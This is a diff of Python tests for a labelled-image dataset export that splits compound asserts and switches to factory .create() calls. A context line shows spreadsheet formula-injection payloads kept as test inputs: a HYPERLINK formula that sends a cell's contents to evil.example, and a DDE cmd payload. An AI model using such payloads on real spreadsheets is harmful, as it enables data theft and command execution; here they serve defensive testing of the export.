@@ -27,12 +27,14 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'
 
 @pytest.fixture
 def model_version(db: None) -> ModelVersion:
-    return ModelVersionFactory()
+    return ModelVersionFactory.create()
 
 
 def _reviews(user: User, model_version: ModelVersion, *labels: str) -> list[Correction]:
     return [
-        CorrectionFactory(prediction=SucceededPredictionFactory(user=user, model_version=model_version), label=label)
+        CorrectionFactory.create(
+            prediction=SucceededPredictionFactory.create(user=user, model_version=model_version), label=label
+        )
         for label in labels
     ]
 
@@ -61,7 +63,8 @@ def test_a_label_longer_than_a_file_name_is_exported_under_a_short_folder(
     _export(tmp_path / "set")
 
     folder = _folders(tmp_path / "set")[LONG_LABEL]
-    assert len(folder.encode()) <= 255 and folder.startswith("é")
+    assert len(folder.encode()) <= 255
+    assert folder.startswith("é")
     image = tmp_path / "set" / folder / f"{review.prediction_id}.jpg"
     assert image.read_bytes() == Path(review.prediction.image.path).read_bytes()
 
@@ -76,7 +79,7 @@ def test_a_label_named_like_the_manifest_does_not_shadow_it(
 
     assert (tmp_path / "set" / "manifest.csv").is_file()
     assert len(_manifest((tmp_path / "set" / "manifest.csv").read_text())) == 2
-    client.force_login(OperatorFactory())
+    client.force_login(OperatorFactory.create())
     response = client.post(
         reverse("admin:predictions_correction_changelist"),
         {"action": "export_dataset", "_selected_action": [review.pk for review in reviews]},
@@ -119,7 +122,8 @@ def test_a_label_that_is_a_path_stays_inside_the_export(
     folders = [path.name for path in (tmp_path / "set").iterdir() if path.is_dir()]
     assert len(folders) == 6
     for name in folders:
-        assert not name.startswith(".") and name.split(".")[0].casefold() != "con"
+        assert not name.startswith(".")
+        assert name.split(".")[0].casefold() != "con"
         assert all(not unicodedata.category(character).startswith("C") for character in name)
 
 
@@ -131,8 +135,10 @@ def test_the_exported_folders_are_what_finetune_reads(user: User, model_version:
     _export(tmp_path / "set")
 
     scanned = scan_folder(tmp_path / "set")
-    assert len(scanned.classes) == 5 and len(scanned.files) == 5
-    assert "tabby cat" in scanned.classes and "_etc" in scanned.classes
+    assert len(scanned.classes) == 5
+    assert len(scanned.files) == 5
+    assert "tabby cat" in scanned.classes
+    assert "_etc" in scanned.classes
 
 
 def test_a_failed_export_writes_nothing(user: User, model_version: ModelVersion, tmp_path: Path) -> None:
